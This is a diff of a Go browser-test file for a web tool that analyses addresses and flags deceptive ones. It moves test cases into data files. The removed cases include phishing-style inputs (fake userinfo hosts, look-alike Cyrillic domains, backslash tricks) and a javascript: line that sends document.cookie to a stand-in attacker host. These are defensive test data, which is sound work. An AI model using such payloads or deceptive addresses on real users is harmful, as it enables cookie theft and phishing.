@@ -3,6 +3,7 @@
 package main
 
 import (
+	"cmp"
 	"flag"
 	"math"
 	"net/http"
@@ -110,173 +111,36 @@ func testFiles(t *testing.T, files map[string][]byte) {
 	}
 }
 
-// misleads asks whether what a person reads first has a word that not everybody knows, or says that all is well.
+// misleads asks whether what a person reads first has a word that not everybody knows, or says that all is well. Nothing that
+// cannot be seen is shown as it is.
 const misleads = `/\b(base|origin|URI|normal|reference|reads the same|to warn)\b/i.test(
-	all("header, form, #verdict").map(e => e.innerText))`
+	all("header, form, #verdict").map(e => e.innerText)) || /[\u200b\u202e\u{e0041}]/u.test(document.querySelector("main").innerText)`
 
-// What the page shows at CSS selectors: the visible texts there, joined by " | ".
-type shown map[string]string
+// selectors are the names that testdata/answers.txt has for CSS selectors.
+var selectors = map[string]string{
+	"rules":     "#parts > .findings code",
+	"places":    "#parts .finding .place",
+	"names":     ".parts .name",
+	"offered":   ".offer > p bdi",
+	"edits":     ".edits li",
+	"minor":     "#parts > details summary",
+	"different": "#reading .different th",
+	"spelling":  "#reading .spelling th",
+	"pairs":     "#pairs td",
+	"forms":     "#forms dd code",
+	"notes":     "#forms dd .note",
+	"left out":  "#display .note",
+	"changed":   "#forms mark",
+	"columns":   "#readers th",
+}
 
-const (
-	rules     = "#parts > .findings code"
-	places    = "#parts .finding .place"
-	names     = ".parts .name"
-	offered   = ".offer > p bdi"
-	edits     = ".edits li"
-	minor     = "#parts > details summary"
-	different = "#reading .different th"
-	spelling  = "#reading .spelling th"
-	pairsOf   = "#pairs td"
-	formsOf   = "#forms dd code"
-	notes     = "#forms dd .note"
-	leftOut   = "#display .note"
-	changed   = "#forms mark"
-	columns   = "#readers th"
-)
-
-// The verdict, with its level before it, and what else is special about a text.
+// The page shows what testdata/answers.txt says, which says how to read it.
 func testAnswers(p *tab) {
 	p.run(`$("forms-section").open = true`)
-	for _, row := range []struct {
-		text, base, verdict string
-		want                shown
-	}{
-		// The verdict says where an address leads.
-		{"https://paypal.com%2Flogin:443@203.0.113.7/", "",
-			"error: This browser goes to 203.0.113.7 1 error. Other programs may go elsewhere, or nowhere, since some take ",
-			shown{"#display bdi": "https://203.0.113.7/", rules: "userinfo-like-host", places: "paypal.com%2Flogin:443@",
-				different: "", spelling: ""}},
-		{"https://example.com:8443/menu/caf%C3%A9?q=rosé&page=2#top", "",
-			"fine: Leads to example.com:8443 Nothing odd in how it is written. Not checked: whose name this is, ",
-			shown{names: "scheme | host | port | path | query | fragment", pairsOf: "q | rosé | page | 2", spelling: "query",
-				columns: "Part | Package iri | This browser | Difference"}},
-		{"https://аррӏе.com/", "", "warning: Leads to xn--80ak6aa92e.com xn--80ak6aa92e stands for аррӏе, ",
-			shown{rules: "look-alike", "#display bdi": "https://xn--80ak6aa92e.com/"}},
-		{"https://XN--80AK6AA92E.com/", "", "warning: Leads to xn--80ak6aa92e.com xn--80ak6aa92e stands for аррӏе, " +
-			"which can look like another name: а, р, ӏ, е are not Latin letters. Not checked: whose name this is, ", nil},
-		{"https://paypa1.com", "", "fine: Leads to paypa1.com In paypa1, 1 is a digit, not a letter. Not checked: ", nil},
-		{"https://2001.h10.example/", "", "fine: Leads to 2001.h10.example Nothing odd ", nil},
-		{"https://bit.ly/x", "", "warning: Leads to bit.ly, which hides where it leads next Not checked: ", nil},
-		{"https://bit.ly/", "", "fine: Leads to bit.ly Nothing", nil},
-		{"bit.ly/x", "", "warning: Perhaps bit.ly is meant, which hides where it leads next ", nil},
-		{"https://例え.jp/カフェ?席=2", "", "fine: Leads to 例え.jp Nothing odd",
-			shown{formsOf: "https://xn--r8jz45g.jp/%E3%82%AB%E3%83%95%E3%82%A7?%E5%B8%AD=2 | https://xn--r8jz45g.jp"}},
-		{"https://user:s3cret@example.com/?access_token=S3CRET", "",
-			"error: This browser goes to example.com 1 error, 1 warning. Other programs may go elsewhere, or nowhere, since ",
-			shown{"#display bdi": "https://example.com/?access_token=xxxxx", rules: "password | secret-param",
-				leftOut: "Left out: what stands before the @, and secrets, which are xxxxx here."}},
-		{"https://example.com@0x7f.1/%2e%2e/admin?a=1;b=2", "",
-			"error: Programs disagree: 0x7f.1, but in this browser 127.0.0.1 2 errors, 1 warning. This browser reads ",
-			shown{rules: "userinfo-like-host | encoded-dot-segment | ipv4-like", different: "host", pairsOf: "a | 1;b=2",
-				notes: " | the same text | none: userinfo: ", leftOut: "Left out: what stands before the @."}},
-		{"http:///evil.example/login", "", "error: This browser goes to evil.example",
-			shown{rules: "http-host", places: "‸", different: "host | path"}},
-		{"https://a.example:99999/", "", "error: This browser rejects this address 1 error.", shown{places: "99999"}},
-		{"https://xn--a/", "", "warning: Leads to xn--a xn--a stands for no name. ", nil},
-		{"urn:isbn:0451450523", "", "fine: Names no site: it begins with urn: Nothing odd", shown{changed: ""}},
-		{"ssh://" + strings.Repeat("例", 9) + "/", "", "fine: Names the host 例", nil}, // DNS has no say here
-		{"data:text/html,x", "", "error: Can run a program: data:", nil},
-		{"https://" + strings.Repeat("a", 64) + ".example/", "", "error: No host has a name so long", nil},
-		// The end of a name stands out, and so does an address in another.
-		{"https://accounts.google.com.signin-verify.example/", "",
-			"fine: Leads to accounts.google.com.signin-verify.example Nothing odd in how it is written. Bold: the last two ",
-			shown{"#status .end": ".signin-verify | .example", "#display .end": ".signin-verify | .example"}},
-		{"https://192.0.2.1:8080/", "", "fine: Leads to 192.0.2.1:8080 Nothing odd in how it is written. Not checked: ",
-			shown{"#status .end": "192.0.2.1:8080"}},
-		{"https://a.example/?" + strings.Repeat("a=b&", 90) + "redirect=//b.example", "",
-			"fine: Leads to a.example Its parameter redirect holds another address: b.example Not checked: ", nil},
-		// Spelling is minor, also if nothing else is found.
-		{"HTTPS://Example.com:443/a/%2E%2E/caf%c3%a9", "", "error: This browser goes to example.com 1 error.",
-			shown{rules: "encoded-dot-segment", minor: "4 minor findings",
-				formsOf: "https://example.com/café", changed: "https | example.com | /café"}},
-		{"HTTPS://Example.com:443/", "", "warning: This browser goes to example.com Other programs may go ",
-			shown{rules: "", minor: "3 minor findings", formsOf: "https://example.com/"}},
-		{"https://a.example/?x=%E2%80%8B&y=%E2%80%8B", "", "warning: Leads to a.example 2 warnings.",
-			shown{"#parts > .findings b": "warning × 2", rules: "encoded-invisible"}},
-		// What people type.
-		{"www.example.com", "", "fine: Perhaps www.example.com is meant Without https:// in front, it ",
-			shown{offered: "https://www.example.com", edits: "https:// is inserted",
-				columns: "Part | Package iri, with a scheme | This browser | Difference", spelling: "path"}},
-		{"", "", ": Type or paste an address above, or choose an example.", nil},
-		{`C:\Users`, "", "warning: Names no site: this is the path of a file 1 small mistake.",
-			shown{offered: "file:///C:/Users", "#display bdi": "file:///C:/Users", different: ""}},
-		{"ana@example.com", "", "warning: Names no site: this is an e-mail address",
-			shown{offered: "mailto:ana@example.com", edits: "mailto: is inserted"}},
-		{"\u00a0https://example.com/", "", "warning: Perhaps example.com is meant 1 small mistake.",
-			shown{"#status .note": "1 small mistake.", edits: "U+00A0 is removed"}},
-		{"../map", "", "warning: Leads nowhere by itself Without https:// in front, ", shown{offered: "", columns: ""}},
-		{"example.com:8080/x", "", "warning: Names no site: it begins with example.com:",
-			shown{offered: "https://example.com:8080/x"}},
-		// Invalid texts: all mistakes, what the browser reads, and a repair.
-		{`javascript:fetch("https://evil.example/"+document.cookie)`, "",
-			"error: Can run a program: javascript: 2 mistakes. 1 warning.",
-			shown{offered: "javascript:fetch(%22https://evil.example/%22+document.cookie)",
-				notes: "the same text | the same text", places: `" | "`, ".offer .findings code": "scheme-active"}},
-		{"java\tscript:alert(1)", "", "error: Can run a program: javascript: 1 mistake.", shown{edits: "U+0009 is removed"}},
-		{"https://exa mple.com:80a/<b>?q=[1]|2#x#y", "", "error: Not valid: it leads nowhere 8 mistakes.",
-			shown{places: "space | 80a | < | > | [ | ] | | | #", columns: "", offered: ""}},
-		{"https://[1.2.3.4]/", "", "error: Not valid", shown{places: "[1.2.3.4]"}},
-		{"https://[::1", "", "error: Not valid", shown{places: "[::1"}},
-		{"1a:b c", "", "warning: Leads nowhere by itself 2 small mistakes.", shown{places: ": | space"}},
-		{`https://evil.example\@example.com/`, "",
-			"error: Not valid, but this browser goes to evil.example 1 mistake.",
-			shown{places: `\`, columns: "Part | This browser", ".sign": "", "#legend": ""}},
-		{`https:\\evil.example\x`, "", "error: Not valid, but this browser goes to evil.example",
-			shown{offered: "", "#display": ""}}, // with "\" encoded, it would lead nowhere
-		{"https://ex\tample.com/", "", "error: Not valid, but this browser goes to example.com 1 mistake.", nil},
-		{"https://u@a.example/a b", "", "error: Not valid, but this browser goes to a.example 1 mistake.", nil},
-		// What browsers repair in the same way is not red.
-		{"a b/[x]|y?q=100%", "", "warning: Leads nowhere by itself 5 small mistakes. Without https:// in front, ",
-			shown{".broken": "", minor: "5 minor findings", offered: "a%20b/%5Bx%5D%7Cy?q=100%25"}},
-		{`/\evil.example`, "", "error: Leads nowhere by itself 1 mistake.", nil},
-		{`https://a.example/?q=\`, "", "warning: Leads to a.example 1 small mistake, ", nil},
-		{"https://example.com/my file?filter[x]=1 ", "",
-			"warning: Leads to example.com 4 small mistakes, which browsers repair. Not checked: ",
-			shown{edits: "space becomes %20 | [ becomes %5B | ] becomes %5D | space is removed",
-				columns: "Part | Package iri, repaired | This browser | Difference"}},
-		{"www.example.com/a b", "", "warning: Perhaps www.example.com is meant 1 small mistake.",
-			shown{edits: "https:// is inserted | space becomes %20", "#forms-title": "Other forms, repaired, for programs"}},
-		// A base.
-		{"../map?zoom=3#here", "https://example.com/menu/today", "fine: Leads to example.com Read as a link in the page ",
-			shown{names: "path | query | fragment | scheme | host | path | query | fragment",
-				"#display bdi": "https://example.com/map?zoom=3#here", offered: ""}},
-		{"b", "https://a.example/|", "error: This browser goes to a.example",
-			shown{"#base-error": "This address is ignored: "}},
-		// browsers ignore the scheme here
-		{"http:g", "http://a.example/b/", "error: This browser goes to a.example", shown{different: "host | path"}},
-		// Where the two readers differ, and where they only spell it differently.
-		{"https://a.example", "", "", shown{different: "", spelling: "path"}},
-		{"https://[0:0::1]:443/", "", "warning: This browser goes to [::1]", shown{different: "", spelling: "host | port"}},
-		{"https://u;a='b'@a.example/it's?q=it's#it's", "", "", shown{different: "", spelling: "userinfo | query"}},
-		{"https://BÜCHER.example/", "", "fine: Leads to bücher.example", shown{different: "", spelling: "host"}},
-		{"https://ｅvil.example/", "", "error: This browser goes to evil.example 1 warning. This browser reads another host.",
-			shown{different: "host"}},
-		{"https://\u212Aé.example/", "", "", shown{different: "host"}}, // a Kelvin sign becomes a k
-		{"https://é\ufe0f.example/", "", "", shown{different: "host"}}, // IDNA removes the second character
-		{"https://a。例え.jp/", "", "", shown{different: "host"}},         // and makes a dot of this one
-		{strings.Repeat("a", 20_000), "", ": This page shows up to 16,000 characters", nil},
-	} {
-		p.enter(row.text, row.base)
-		got := p.text(`$("verdict").className + ": " + $("status").textContent`)
-		if want := row.verdict; want != "" && !strings.HasPrefix(got, want) {
-			p.Errorf("%.80q: got %q, want %q", row.text, got, want)
-		}
-		base, _ := iri.Parse(row.base)
-		u, err := base.ParseLink(row.text)
-		_, none := u.Origin()
-		if strings.Contains(got, "Leads to ") && (err != nil || none != nil && u == u.ToURI() ||
-			!eval[bool](p, `URL.canParse($("text").value, $("base").value || undefined)`)) {
-			p.Errorf("%.80q: %q, but %v, %v", row.text, got, err, none)
-		}
-		if eval[bool](p, misleads) {
-			p.Errorf("%.80q: what a person reads first misleads: %q", row.text, got)
-		}
-		for selector, want := range row.want {
-			got := p.text(`all(` + quote(selector) + `).filter(e => e.checkVisibility()).map(e => e.textContent.trim())
-				.join(" | ")`)
-			if isPrefix := strings.HasSuffix(want, " "); got != want && !(isPrefix && strings.HasPrefix(got, want)) {
-				p.Errorf("%.80q: %s is %q, want %q", row.text, selector, got, want)
-			}
+	for paragraph := range strings.SplitSeq(strings.TrimSpace(testenv.Read("testdata/answers.txt")), "\n\n") {
+		lines := slices.DeleteFunc(strings.Split(paragraph, "\n"), func(s string) bool { return strings.HasPrefix(s, "# ") })
+		if len(lines) > 0 {
+			testAnswer(p, lines)
 		}
 	}
 	p.enter("https://a.example/a b", "")
@@ -284,28 +148,54 @@ func testAnswers(p *tab) {
 	testenv.Same(p, p.text(`$("text").value`), "https://a.example/a%20b", "where the offer leads")
 }
 
-// What classes say can be seen: the level of the verdict, components, findings, mistakes, differences and changes.
+// testAnswer checks the lines of a paragraph.
+func testAnswer(p *tab, lines []string) {
+	text, base := testenv.Text(lines[0]), iri.IRI{}
+	p.enter(text, "")
+	const verdict = `$("verdict").className + ": " + $("status").textContent`
+	for _, line := range lines[1:] {
+		name, want, _ := strings.Cut(line, ": ")
+		want, isPrefix := strings.CutSuffix(testenv.Text(want), "…")
+		got := ""
+		switch name {
+		case "base":
+			base, _ = iri.Parse(want)
+			p.enter(text, want)
+			continue
+		case "verdict":
+			got = p.text(verdict)
+		default:
+			got = p.text(`all(` + quote(cmp.Or(selectors[name], name)) + `).filter(e => e.checkVisibility())
+				.map(e => e.textContent.trim()).join(" | ")`)
+		}
+		if got != want && !(isPrefix && strings.HasPrefix(got, want)) {
+			p.Errorf("%.80q: %s is %q, want %q", text, name, got, want)
+		}
+	}
+	got := p.text(verdict)
+	u, err := base.ParseLink(text)
+	_, none := u.Origin()
+	if strings.Contains(got, "Leads to ") && (err != nil || none != nil && u == u.ToURI() ||
+		!eval[bool](p, `URL.canParse($("text").value, $("base").value || undefined)`)) {
+		p.Errorf("%.80q: %q, but %v, %v", text, got, err, none)
+	}
+	if eval[bool](p, misleads) {
+		p.Errorf("%.80q: what a person reads first misleads: %q", text, got)
+	}
+}
+
+// What classes say can be seen: of the elements in testdata/colors.txt, no two look alike.
 func testColors(p *tab) {
 	seen := map[string]string{}
-	for _, row := range []struct{ text, selector, property string }{
-		{"https://paypal.com@203.0.113.7/", "#status strong", "color"},
-		{"https://a.example/?x=%E2%80%8B", "#status strong", "color"},
-		{"https://a.example/", "#status strong", "color"},
-		{"https://u@a.example:8/é?q#f", ".scheme > code", "color"},
-		{"", ".userinfo > code", "color"}, {"", ".host > code", "color"}, {"", ".port > code", "color"},
-		{"", ".path > code", "color"}, {"", ".query > code", "color"}, {"", ".fragment > code", "color"},
-		{"", ".finding .place", "textDecorationStyle"}, {"", "#forms mark", "backgroundColor"},
-		{"https://127.1/", ".different td", "backgroundColor"},
-		{"https://a b/", ".finding .place", "backgroundColor"},
-	} {
-		if row.text != "" {
-			p.enter(row.text, "")
+	for _, row := range testenv.Rows[struct{ Text, Selector, Property string }]("testdata/colors.txt") {
+		if row.Text != "" {
+			p.enter(row.Text, "")
 		}
-		got := p.text(`getComputedStyle(document.querySelector(` + quote(row.selector) + `)).` + row.property)
-		if before, ok := seen[row.property+got]; ok || got == "rgba(0, 0, 0, 0)" || got == "solid" {
-			p.Errorf("%q: %s of %s is %s, as of %s", row.text, row.property, row.selector, got, before)
+		got := p.text(`getComputedStyle(document.querySelector(` + quote(row.Selector) + `)).` + row.Property)
+		if before, ok := seen[row.Property+got]; ok || got == "rgba(0, 0, 0, 0)" || got == "solid" {
+			p.Errorf("%q: %s of %s is %s, as of %s", row.Text, row.Property, row.Selector, got, before)
 		}
-		seen[row.property+got] = row.selector
+		seen[row.Property+got] = row.Selector
 	}
 }
 
@@ -369,13 +259,6 @@ func testHostile(p *tab) {
 	})()`) {
 		p.Error("the parts of an address in Hebrew, or the segments of its path, are not in their order")
 	}
-	for _, hidden := range []string{"\u202e", "\u200b", " ", "\U000e0041"} {
-		p.enter("https://a.example/"+hidden+"b", "")
-		got := p.text(`document.querySelector("main").innerText`)
-		if hidden != " " && strings.Contains(got, hidden) || eval[int](p, `all("#parts .hidden").length`) == 0 {
-			p.Errorf("%q is shown in %q", hidden, got)
-		}
-	}
 }
 
 // The page loads its own files only, and the browser would stop anything else.
@@ -404,7 +287,6 @@ func testElsewhere(p *tab) {
 // only if that is said.
 func testLink(p *tab) {
 	const state = `location.hash + " " + $("text").value + " " + $("base").value`
-	p.run(`navigator.clipboard.writeText = async text => { window.copied = decodeURIComponent(text.split("#")[1]); }`)
 	for _, row := range []struct{ text, base, choice, link string }{
 		{"https://a.example/?a=b&c=d#e", "", "", "text=https://a.example/?a=b&c=d#e"},
 		{"é\u202e\U0001f600", "https://b.example/#+&", "", "text=é\u202e\U0001f600&base=https://b.example/#+&"},
@@ -423,7 +305,7 @@ func testLink(p *tab) {
 			p.do(chromedp.Click(chromedp.CSS(row.choice)))
 		}
 		p.wait(`window.copied !== ""`)
-		got := p.text(`window.copied + decodeURIComponent(location.hash)`)
+		got := p.text(`decodeURIComponent(copied.split("#")[1] + location.hash)`)
 		testenv.Same(p, got, row.link+"#"+row.link, "the link to %q, and the page's address", row.text)
 	}
 	fragment := "#text=https%3A%2F%2Fa.example%2F%3Fa%3Db%26c%3Dd%23e&base=a%2Bb+c%2520"
@@ -435,7 +317,7 @@ func testLink(p *tab) {
 
 // Each button copies all of what it stands beside, and no password, even if that is cut.
 func testCopy(p *tab) {
-	p.run(`$("forms-section").open = true; navigator.clipboard.writeText = async text => { window.copied = text; }`)
+	p.run(`$("forms-section").open = true`)
 	p.enter("https://user:s3cret@EXAMPLE.com/?access_token=S3CRET#é"+strings.Repeat("a", 5000), "")
 	got := eval[[]string](p, `all("#verdict .use, #forms .use").filter(e => e.textContent.startsWith("Copy")).map(e => {
 		e.click();
